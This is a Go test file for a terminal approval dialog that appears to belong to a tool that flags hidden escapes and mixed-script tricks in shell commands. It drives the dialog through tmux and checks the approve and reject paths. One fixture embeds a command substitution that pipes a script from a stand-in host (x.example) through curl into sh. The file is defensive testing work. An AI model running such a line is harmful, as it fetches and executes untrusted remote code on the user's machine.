package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/plainsight-dev/plainsight"
)

// tmux runs the dialog in a detached tmux session on a private server and
// returns a function that runs tmux commands against it. It skips the test
// when tmux is missing, unless CI=true.
func tmux(t *testing.T, args ...string) func(args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("no tmux found; CI needs it (apt-get install tmux)")
		}
		t.Skip("no tmux found")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "tui")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	socket := filepath.Join(dir, "tmux.sock")
	run := func(args ...string) string {
		t.Helper()
		out, err := exec.Command("tmux", append([]string{"-S", socket}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	command := strings.Join(append([]string{bin}, quoteAll(args)...), " ")
	// The shell reports the exit status and keeps the pane open to read it.
	run("-f", "/dev/null", "new-session", "-d", "-s", "dialog", "-x", "100", "-y", "40",
		"env TERM=xterm-256color "+command+"; echo EXIT:$?; sleep 60")
	t.Cleanup(func() { exec.Command("tmux", "-S", socket, "kill-server").Run() })
	return run
}

// attributes returns the parameters of the SGR that tmux writes right
// before the first occurrence of text in a capture-pane -e screen, or nil.
func attributes(screen, text string) []string {
	i := strings.Index(screen, text)
	if i < 0 || !strings.HasSuffix(screen[:i], "m") {
		return nil
	}
	j := strings.LastIndex(screen[:i], "\x1b[")
	if j < 0 {
		return nil
	}
	return strings.Split(screen[j+2:i-1], ";")
}

func quoteAll(args []string) []string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return q
}

// waitFor captures the pane until it contains want, for up to 20 seconds.
func waitFor(t *testing.T, run func(...string) string, want string, flags ...string) string {
	t.Helper()
	var screen string
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		screen = run(append([]string{"capture-pane", "-p", "-t", "dialog"}, flags...)...)
		if strings.Contains(screen, want) {
			return screen
		}
	}
	t.Fatalf("pane never showed %q; last screen:\n%s", want, screen)
	return ""
}

// warnedPrompt is what the dialog shows while it waits for yes.
const warnedPrompt = "anything else rejects:"

func TestDialogRejects(t *testing.T) {
	run := tmux(t)
	screen := waitFor(t, run, warnedPrompt)
	r := plainsight.Command(demoCommand)
	// Every escape and every warning is on screen; lines are broken at 100
	// columns, so look for each escape on its own.
	for e := range r.Escapes.All() {
		if esc := r.Text[e.Start:e.End]; !strings.Contains(screen, esc) {
			t.Errorf("screen lacks escape %s:\n%s", esc, screen)
		}
	}
	for _, w := range r.Warnings {
		if want := fmt.Sprintf("warn %s:", w.Kind); !strings.Contains(screen, want) {
			t.Errorf("screen lacks %q:\n%s", want, screen)
		}
	}
	for _, line := range strings.Split(screen, "\n") {
		if w := len([]rune(line)); w > 100 {
			t.Errorf("line wider than the pane (%d): %q", w, line)
		}
	}
	// With attributes: the escapes are in reverse video.
	styled := waitFor(t, run, warnedPrompt, "-e")
	if a := attributes(styled, `\u{202e}`); !slices.Contains(a, "7") {
		t.Errorf("the override's escape has attributes %q, want reverse video (7):\n%q", a, styled)
	}
	for _, w := range r.Warnings {
		if w.Kind != plainsight.KindMixedScript || len(w.Locations) == 0 {
			continue
		}
		token := r.Text[w.Locations[0].Text.Start:w.Locations[0].Text.End]
		if a := attributes(styled, token); !slices.Contains(a, "4") {
			t.Errorf("the mixed-script token %q has attributes %q, want underline (4):\n%q", token, a, styled)
		}
	}
	run("send-keys", "-t", "dialog", "n")
	screen = waitFor(t, run, "EXIT:")
	for _, want := range []string{"Rejected.", "rejected", "EXIT:1"} {
		if !strings.Contains(screen, want) {
			t.Errorf("after n, screen lacks %q:\n%s", want, screen)
		}
	}
}

func TestDialogApproves(t *testing.T) {
	run := tmux(t, "-c", `"go test ./..."`)
	screen := waitFor(t, run, "[y/n]")
	if strings.Contains(screen, "hides something") {
		t.Errorf("a clean command is called hiding something:\n%s", screen)
	}
	run("send-keys", "-t", "dialog", "y")
	screen = waitFor(t, run, "EXIT:")
	if !strings.Contains(screen, "EXIT:0") || !strings.Contains(screen, "approved") {
		t.Errorf("after y, screen:\n%s", screen)
	}
}

// TestDialogWarnedNeedsYes checks that a command with warnings takes yes
// typed and Enter, the same deliberate act as on the CLI and the web page:
// y, which approves a clean command, does not; y then Enter rejects; a
// pasted yes rejects; yes and Enter approves.
func TestDialogWarnedNeedsYes(t *testing.T) {
	cmd := strconv.Quote("/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019")
	t.Run("y then Enter", func(t *testing.T) {
		run := tmux(t, "-c", cmd)
		waitFor(t, run, warnedPrompt)
		run("send-keys", "-t", "dialog", "y")
		// y alone decides nothing: the dialog is still waiting.
		time.Sleep(500 * time.Millisecond)
		screen := waitFor(t, run, warnedPrompt+" y")
		if strings.Contains(screen, "EXIT:") || strings.Contains(screen, "Approved") {
			t.Fatalf("after y, the warned command was decided:\n%s", screen)
		}
		run("send-keys", "-t", "dialog", "Enter")
		screen = waitFor(t, run, "EXIT:")
		if !strings.Contains(screen, "EXIT:1") || !strings.Contains(screen, "rejected") {
			t.Errorf("after y and Enter, screen:\n%s", screen)
		}
	})
	t.Run("pasted yes", func(t *testing.T) {
		run := tmux(t, "-c", cmd)
		waitFor(t, run, warnedPrompt)
		run("set-buffer", "yes\n")
		// -p pastes as the terminal would, in bracketed-paste markers
		// when the dialog asked for them.
		run("paste-buffer", "-p", "-t", "dialog")
		screen := waitFor(t, run, "EXIT:")
		if !strings.Contains(screen, "EXIT:1") || !strings.Contains(screen, "rejected") {
			t.Errorf("after a pasted yes, screen:\n%s", screen)
		}
	})
	t.Run("yes then Enter", func(t *testing.T) {
		run := tmux(t, "-c", cmd)
		waitFor(t, run, warnedPrompt)
		run("send-keys", "-t", "dialog", "y", "e", "s")
		waitFor(t, run, warnedPrompt+" yes")
		run("send-keys", "-t", "dialog", "Enter")
		screen := waitFor(t, run, "EXIT:")
		if !strings.Contains(screen, "EXIT:0") || !strings.Contains(screen, "approved") {
			t.Errorf("after yes and Enter, screen:\n%s", screen)
		}
	})
}
